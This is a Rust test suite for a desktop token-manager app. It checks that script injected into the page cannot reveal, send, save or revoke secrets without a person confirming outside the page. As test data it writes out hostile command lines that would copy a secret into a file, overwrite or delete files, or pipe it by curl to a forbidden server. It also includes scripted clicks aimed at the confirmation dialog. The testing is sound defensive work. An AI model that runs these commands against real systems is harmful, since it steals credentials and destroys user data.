//! Script in the page can call every command the page can. What the page must not decide alone does not
//! happen unless a person says so outside it.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::canary::{in_memory, made};
use crate::desktop::until;
use crate::hand::Hand;
use crate::navigation::Port;
use crate::reveal::in_page;
use crate::ways_in::choose;
use crate::words::page;
use crate::world::World;

const REACH: &str = "Connect to this server";
const RUN: &str = "Run this program";
const REPLACE: &str = "Replace this file";
const SAVE: &str = "Save this file";
const OPEN: &str = "Open this file";
const REVOKE: &str = "Revoke this token";
const ALWAYS_ASKED: [&str; 7] = [
    "secrets_send",
    "secrets_save",
    "audit_save_report",
    "audit_save_policy",
    "journal_export",
    "cleanups_run",
    "connections_sign_in_in_window",
];

/// What hostile script does: the command, its arguments, and what the person is asked.
struct Act {
    command: &'static str,
    arguments: Value,
    asked: String,
}

fn act(command: &'static str, asked: &str, arguments: Value) -> Act {
    Act { command, arguments, asked: asked.to_owned() }
}

/// The files and servers that are to stay as they are.
struct Prey {
    world: World,
    forbidden: Port,
    plan: u32,
}

impl Prey {
    async fn set_up() -> Self {
        let world = World::connected().await;
        made(&world, "fresh").await;
        let home = world.desktop.home();
        for (file, text) in [("precious", "mine"), ("policy.toml", "stale_days = 9000\n")] {
            fs::write(home.join(file), text).expect("a file");
        }
        let steal = home.join("steal");
        fs::write(&steal, "#!/bin/sh\ncat > \"$HOME/stolen\"\n").expect("a program");
        fs::set_permissions(&steal, fs::Permissions::from_mode(0o700)).expect("it can be run");
        let forbidden = Port::open();
        fs::create_dir(home.join(".nt3")).expect("a folder");
        let config = json!({"token": "entri_0123456789abcdef", "api_url": forbidden.address});
        fs::write(home.join(".nt3/config.json"), config.to_string()).expect("a file");
        let prey = Self { world, forbidden, plan: 0 };
        let query = json!({"text": "", "view": "all", "sort": "name", "descending": false,
            "seq": 1, "top": 0, "len": 10, "anchor": null});
        prey.call("tokens_select_all", json!({"request": query, "selected": true})).await;
        let plan = prey.call("cleanups_plan", json!({"of": null})).await;
        let plan = plan["id"].as_u64().and_then(|id| u32::try_from(id).ok()).expect("a plan");
        prey.use_up_presses().await;
        Self { plan, ..prey }
    }

    /// What was pressed so far counts for nothing from here on.
    async fn use_up_presses(&self) {
        self.world.app.touch();
        let nowhere = json!({"connection": 1, "path": "/nowhere"});
        let said = self.call("audit_load_policy", nowhere).await;
        assert_eq!(said["code"], "invalid", "{said}");
    }

    /// What a command answers, or why it fails.
    async fn call(&self, command: &str, arguments: Value) -> Value {
        self.begin(command, &arguments).await;
        self.ended().await
    }

    async fn begin(&self, command: &str, arguments: &Value) {
        let script = format!(
            "window.ended = null;
             const keep = (it) => (window.ended = [it ?? null]);
             window.__TAURI_INTERNALS__.invoke('{command}', {arguments}).then(keep, keep)"
        );
        self.world.app.eval(&script).await;
    }

    async fn ended(&self) -> Value {
        self.world.app.until("the command ends", "return window.ended !== null").await;
        self.world.app.eval("return window.ended[0]").await
    }

    async fn acts(&self) -> Vec<Act> {
        let home = self.world.desktop.home().display();
        let to = &self.forbidden.address;
        let own = &self.world.sandbox.ready().base_url;
        let mut acts = Vec::new();
        for line in [
            format!("{home}/steal"),
            format!("sh -c 'cat > {home}/stolen'"),
            format!("tee {home}/stolen"),
            format!("env -i tee {home}/stolen"),
            format!("cp /dev/stdin {home}/stolen"),
            format!("dd of={home}/precious"),
            format!("python3 -c 'open(\"{home}/stolen\", \"w\")'"),
            format!("curl --data-binary @- {to}"),
            format!("/usr/bin/env sh -c 'rm {home}/precious'"),
        ] {
            acts.push(act("secrets_send", RUN, json!({"handle": 1, "line": line})));
        }
        for handle in [1, 1] {
            acts.push(act("secrets_reveal", "Show the value", json!({"handle": handle})));
        }
        acts.push(act("secrets_copy", "Copy the value", json!({"handle": 1})));
        let arguments = json!({"handle": 1, "anyway": true});
        acts.push(act("secrets_close", "Close without", arguments));
        for (file, asked) in [("precious", REPLACE), ("steal", REPLACE), (".profile", SAVE)] {
            let path = format!("{home}/{file}");
            acts.push(act("secrets_save", asked, json!({"handle": 1, "path": path})));
            for format in ["csv", "html", "json"] {
                let arguments = json!({"format": format, "path": path});
                acts.push(act("audit_save_report", asked, arguments));
            }
            let arguments = json!({"text": "", "only": null, "source": "app", "path": path});
            acts.push(act("journal_export", asked, arguments));
            let arguments = json!({"connection": 1, "path": path});
            acts.push(act("audit_save_policy", asked, arguments));
        }
        let path = format!("{home}/policy.toml");
        acts.push(act("audit_load_policy", OPEN, json!({"connection": 1, "path": path})));
        for address in [to, own] {
            for way in [
                json!({"kind": "apiToken"}),
                json!({"kind": "password", "email": "a@b.example"}),
                json!({"kind": "cookie"}),
            ] {
                let request =
                    json!({"address": address, "credential": way, "organizationId": null});
                acts.push(act("connections_connect", REACH, json!({"request": request})));
            }
        }
        let way = json!({"kind": "cli", "place": "globalFile"});
        let request = json!({"address": "", "credential": way, "organizationId": null});
        acts.push(act("connections_connect", REACH, json!({"request": request})));
        let arguments = json!({"address": to, "organizationId": null});
        acts.push(act("connections_sign_in_in_window", REACH, arguments));
        for name in ["contractor-import", "Mira's laptop", "fresh"] {
            acts.push(act("tokens_revoke", REVOKE, self.revoke(name).await));
        }
        let notes = json!({"placement": "", "note": ""});
        let request = json!({"connection": 1, "name": "planted", "expiry": {"kind": "never"},
            "scopes": [], "projectId": null, "notes": notes});
        acts.push(act("tokens_create", "Create this token", json!({"request": request})));
        let keys = json!([{"connection": 1, "id": self.world.id_of("old-jenkins")}]);
        let request = json!({"keys": keys, "kind": "keep", "until": {"kind": "days", "days": 30},
            "reason": "mine"});
        acts.push(act("decisions_make", "Keep these tokens", json!({"request": request})));
        let arguments = json!({"plan": self.plan, "typed": "48"});
        acts.push(act("cleanups_run", "Revoke 48 tokens", arguments));
        let arguments = json!({"id": 1, "anyway": true});
        acts.push(act("connections_disconnect", "Disconnect", arguments));
        acts
    }

    /// A revoke as the page would send it, with all that its plan says.
    async fn revoke(&self, name: &str) -> Value {
        let key = json!({"connection": 1, "id": self.world.id_of(name)});
        let plan = self.call("tokens_plan_revoke", json!({"key": key})).await;
        json!({"request": {"key": key, "seen": plan["seen"], "typed": name}})
    }

    fn holds(&self, file: &str) -> Option<String> {
        fs::read_to_string(self.world.desktop.home().join(file)).ok()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn script_in_the_page_does_nothing_that_nobody_confirmed() {
    let prey = Prey::set_up().await;
    let Prey { world, forbidden, .. } = &prey;
    let (alive, requests) = (world.alive(), world.sandbox.requests().len());
    let acts = prey.acts().await;
    assert!(acts.len() >= 40, "{} acts", acts.len());
    let mut asked_for = 0;
    for Act { command, arguments, asked } in acts {
        // For these a press is not enough, and with one they are asked about after a no as well.
        if ALWAYS_ASKED.contains(&command) {
            world.app.touch();
        }
        prey.begin(command, &arguments).await;
        let ended = "return window.ended !== null";
        while world.app.eval(ended).await == false && !world.desktop.has_window(&asked) {}
        if world.desktop.has_window(&asked) {
            asked_for += 1;
            world.desktop.say_no(&asked);
        }
        let answer = prey.ended().await;
        let refused = answer.is_null() || answer["code"] == "declined";
        assert!(refused, "{command} {arguments}: {answer}");
    }
    assert!(asked_for > 25, "{asked_for} were asked about");
    assert_eq!(world.alive(), alive, "no token was revoked");
    assert_eq!(world.sandbox.requests().len(), requests, "its server was asked for nothing");
    assert_eq!(forbidden.connections(), 0, "and another one neither");
    assert_eq!(prey.holds("precious").as_deref(), Some("mine"));
    assert!(prey.holds("steal").is_some_and(|it| it.starts_with("#!/bin/sh")));
    assert_eq!((prey.holds("stolen"), prey.holds(".profile")), (None, None));
    assert!(world.app.eval("return document.querySelector('.connect') === null").await == true);
}

/// The control: what is confirmed happens, so the acts above were real.
#[tokio::test(flavor = "multi_thread")]
async fn what_is_confirmed_happens() {
    let prey = Prey::set_up().await;
    let Prey { world, forbidden, .. } = &prey;
    let acts = prey.acts().await;
    let yes = async |of: &Act, yes: &str| {
        prey.begin(of.command, &of.arguments).await;
        world.desktop.say_yes(&of.asked, yes);
        prey.ended().await
    };
    let first = |command: &str, asked: &str| {
        acts.iter().find(|it| it.command == command && it.asked == asked).expect("there is one")
    };
    let said = yes(first("secrets_send", RUN), "Run").await;
    assert!(prey.holds("stolen").is_some_and(|it| it.starts_with("entri_")), "{said}");
    let said = yes(first("secrets_save", REPLACE), "Replace").await;
    assert!(prey.holds("precious").is_some_and(|it| it.starts_with("entri_")), "{said}");
    let value = yes(first("secrets_reveal", "Show the value"), "Show").await;
    assert!(value.as_str().is_some_and(|it| it.starts_with("entri_")));
    let alive = world.alive().len();
    let said = yes(first("tokens_revoke", REVOKE), "Revoke").await;
    assert_eq!((world.alive().len(), &said["outcome"]), (alive - 1, &json!("revoked")), "{said}");
    let said = yes(first("cleanups_run", "Revoke 48 tokens"), "Revoke").await;
    assert!(world.alive().len() < 5, "{said}");
    let reach = acts.iter().find(|it| it.arguments.to_string().contains("\"cli\"")).expect("one");
    prey.begin(reach.command, &reach.arguments).await;
    world.desktop.say_yes(REACH, "Connect");
    until("the other server is reached", || forbidden.connections() > 0);
    let said = yes(first("connections_disconnect", "Disconnect"), "Disconnect").await;
    let left = prey.call("connections_start", json!({})).await;
    assert_eq!(left["status"]["connections"], json!([]), "{said}");
}

/// Whoever made a token and then enters it for another server by mistake is stopped.
#[tokio::test(flavor = "multi_thread")]
async fn a_new_value_goes_to_no_other_server() {
    let prey = Prey::set_up().await;
    let Prey { world, forbidden, .. } = &prey;
    prey.begin("secrets_reveal", &json!({"handle": 1})).await;
    world.desktop.say_yes("Show the value", "Show");
    let value = prey.ended().await.as_str().expect("a value").to_owned();
    let credential = json!({"kind": "apiToken"});
    let request = json!({"address": forbidden.address, "credential": credential,
        "organizationId": null});
    world.app.touch();
    prey.begin("connections_connect", &json!({"request": request})).await;
    world.desktop.enter("Enter the API token", &value);
    let said = prey.ended().await;
    assert!(said["message"].as_str().is_some_and(|it| it.contains("Nothing was sent")), "{said}");
    assert_eq!(forbidden.connections(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_one_signs_in_with_never_gets_into_the_page() {
    let world = World::connected().await;
    let token = world.sandbox.ready().admin_token.clone();
    let places = in_memory(&world, &token);
    assert!(!in_page(&places), "{places:?}");
    assert!(places.iter().any(|it| it.starts_with("entri-tokens")), "the app uses it: {places:?}");
}

/// A hand on the mouse is a press that the shell sees itself; script that clicks the same button is none.
#[tokio::test(flavor = "multi_thread")]
async fn a_click_of_a_hand_is_enough_and_one_of_script_is_not() {
    const REVOKE_IT_NOW: &str = "dialog footer .danger";
    let prey = Prey::set_up().await;
    let (app, alive) = (&prey.world.app, prey.world.alive().len());
    app.press(page("dialogs/words.created.close")).await;
    app.find(REVOKE_IT_NOW).await;
    prey.use_up_presses().await;
    app.eval(&format!("document.querySelector('{REVOKE_IT_NOW}').click()")).await;
    prey.world.desktop.say_no(REVOKE);
    app.says("Canceled. Nothing was done.").await;
    let hand = Hand::on(&prey.world).await;
    // What is written is no press, however much of it: script could wait for each letter.
    hand.key("a").await;
    let said = prey.call("tokens_revoke", prey.revoke("fresh").await).await;
    assert_eq!(said["code"], "declined", "{said}");
    assert_eq!(prey.world.alive().len(), alive);
    hand.click(REVOKE_IT_NOW).await;
    app.says("Revoked “fresh”.").await;
    // One press is not enough for a second one right after it.
    app.touch();
    prey.begin("tokens_revoke", &prey.revoke("contractor-import").await).await;
    prey.world.desktop.say_no(REVOKE);
    assert_eq!(prey.ended().await["code"], "declined");
    assert_eq!(prey.world.alive().len(), alive - 1);
}

/// Typed or pasted, a password is wiped once it was sent.
#[tokio::test(flavor = "multi_thread")]
async fn a_password_that_was_sent_is_nowhere() {
    let world = World::unconnected().await;
    let password = &world.sandbox.ready().admin_password;
    for pasted in [false, true] {
        ask_for_password(&world).await;
        if pasted {
            world.desktop.copy(password);
            world.desktop.paste_into("Enter the password");
        } else {
            world.desktop.type_there("Enter the password", password);
        }
        until("it stands in the field", || !in_memory(&world, password).is_empty());
        assert!(!in_page(&in_memory(&world, password)), "pasted: {pasted}");
        world.desktop.enter("Enter the password", "");
        world.app.synced().await;
        world.desktop.copy("something else");
        let left = in_memory(&world, password);
        assert!(left.is_empty(), "pasted: {pasted}, {left:?}");
        world.app.click(".connection").await;
        world.app.press(page("m.menu.disconnect")).await;
        world.app.press(page("dialogs/words.disconnect.submit")).await;
    }
}

async fn ask_for_password(world: &World) {
    choose(world, "password").await;
    world.app.fill("#connect-address", &world.sandbox.ready().base_url).await;
    world.app.fill("#connect-email", &world.sandbox.ready().admin_email).await;
    world.app.press(page("sign-in/s.submit.password")).await;
}

/// Script knows when somebody clicks on and on, and where the question's buttons will be.
#[tokio::test(flavor = "multi_thread")]
async fn clicks_that_go_on_are_no_yes() {
    let prey = Prey::set_up().await;
    let desktop = &prey.world.desktop;
    prey.world.app.touch();
    let line = format!("tee {}/stolen", desktop.home().display());
    prey.begin("secrets_send", &json!({"handle": 1, "line": line})).await;
    until("the app asks", || desktop.has_window(RUN));
    let click = || {
        let Some(window) = desktop.windows(RUN).into_iter().next() else { return };
        let place = desktop.xdotool(&["getwindowgeometry", "--shell", &window]);
        let of = |name: &str| -> i32 {
            let line = place.lines().find_map(|line| line.strip_prefix(name)).expect("a number");
            line.parse().expect("a number")
        };
        let x = of("X=") + of("WIDTH=") * 3 / 4;
        let y = of("Y=") + of("HEIGHT=") - 20;
        let [x, y] = [x, y].map(|it| it.to_string());
        desktop.xdotool(&["mousemove", &x, &y, "click", "1"]);
    };
    let since = Instant::now();
    while since.elapsed() < Duration::from_secs(3) {
        click();
        assert!(desktop.has_window(RUN), "it is still asked after {:?}", since.elapsed());
    }
    assert_eq!(prey.holds("stolen"), None);
    // The control: a click on the same place once nobody clicked for a while.
    let (mut clicked, pause) = (Instant::now(), Duration::from_secs(2));
    until("the question is answered", || {
        if clicked.elapsed() > pause {
            click();
            clicked = Instant::now();
        }
        !desktop.has_window(RUN)
    });
    prey.ended().await;
    assert!(prey.holds("stolen").is_some_and(|it| it.starts_with("entri_")));
}

/// The file of the command-line tool can change while it is asked about.
#[tokio::test(flavor = "multi_thread")]
async fn the_server_that_was_confirmed_is_the_one_that_is_reached() {
    let prey = Prey::set_up().await;
    let (desktop, other) = (&prey.world.desktop, Port::open());
    let way = json!({"kind": "cli", "place": "globalFile"});
    let request = json!({"address": "", "credential": way, "organizationId": null});
    prey.begin("connections_connect", &json!({"request": request})).await;
    until("the app asks", || desktop.has_window(REACH));
    let config = json!({"token": "entri_0123456789abcdef", "api_url": other.address});
    fs::write(desktop.home().join(".nt3/config.json"), config.to_string()).expect("a file");
    desktop.say_yes(REACH, "Connect");
    let mut reached = (0, 0);
    until("a server is reached", || {
        reached = (prey.forbidden.connections(), other.connections());
        reached != (0, 0)
    });
    assert!(reached.0 > 0 && reached.1 == 0, "{reached:?}");
}
